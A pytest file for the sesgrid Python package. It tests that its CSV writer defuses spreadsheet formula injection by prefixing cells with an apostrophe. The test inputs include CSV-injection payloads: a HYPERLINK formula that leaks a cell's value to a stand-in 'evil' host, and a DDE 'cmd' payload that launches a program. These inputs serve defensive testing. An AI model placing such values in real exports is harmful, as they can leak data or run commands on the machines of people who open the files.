"""CSV for spreadsheets: nothing of it is computed, nothing else changes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import sesgrid
from sesgrid.store.csv_text import csv_text

STARTS = "=+-@\t\r＝＋－＠"


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+SUM(1)",
        "-2+3",
        "@x",
        "\t=1",
        "\rx",
        " =1",
        "＝1+1",
        "-",
        "+33 1 23",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_text(value):
    table = pd.DataFrame({value: [value, "a"], "class": pd.Categorical(["b", value]), "n": [1, -2]})
    header, first, second = read(csv_text(table))
    kept = value.replace("\r", "\n")
    assert [header[0], first[0], second[1]] == [f"'{kept}"] * 3
    assert [first[1], second[0], first[2], second[2]] == ["b", "a", "1", "-2"]
    matrix = pd.DataFrame({value: [1.0]}, index=pd.Index([value], name="@"))
    assert read(csv_text(matrix, index=True)) == [["'@", f"'{kept}"], [f"'{kept}", "1.0"]]
    assert table.columns[0] == value, "the table itself stays as it is"


def test_what_begins_a_cell_elsewhere_is_text_too():
    assert csv_text(pd.DataFrame({"a": ["x;=1", "x; y", "a-b"]})) == "a\nx;'=1\nx; y\na-b\n"


def test_plain_tables_are_written_as_pandas_does():
    index = pd.MultiIndex.from_product([["a", "b"], [1, -2]], names=["x", "y"])
    columns = {"class": ["Forêt, dense", None, "-5", "+1.5e3"], "r": [-0.5, 1e-9, float("nan"), 2]}
    table = pd.DataFrame({**columns, "n": [1, 2, 3, 4], "b": [True, False, True, False]}, index)
    assert csv_text(table) == table.to_csv(index=False)
    assert csv_text(table, index=True) == table.to_csv()


@settings(max_examples=60)
@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=6), min_size=1, max_size=4))
def test_no_cell_begins_as_a_formula_and_none_loses_its_text(values):
    table = pd.DataFrame({"a": values, "b": values[::-1]})
    rows = read(csv_text(table))[1:]
    for row, kept in zip(rows, zip(values, values[::-1], strict=True), strict=True):
        for cell, value in zip(row, kept, strict=True):
            plain_number = re.fullmatch(r"[+-]?[\d.]+(e\d+)?", cell, re.ASCII | re.IGNORECASE)
            assert not cell or cell[0] not in STARTS or plain_number
            plain = value.replace("\r\n", "\n").replace("\r", "\n")
            assert cell.replace("'", "") == plain.replace("'", "")


def test_there_is_one_place_that_writes_csv():
    writers = {
        path.name
        for path in Path(sesgrid.__file__).parent.rglob("*.py")
        if re.search(r"to_csv\(|csv\.writer", path.read_text(encoding="utf-8"))
    }
    # the synthetic census is ids and numbers; the engine hashes a table
    assert writers == {"csv_text.py", "census.py", "engine.py"}
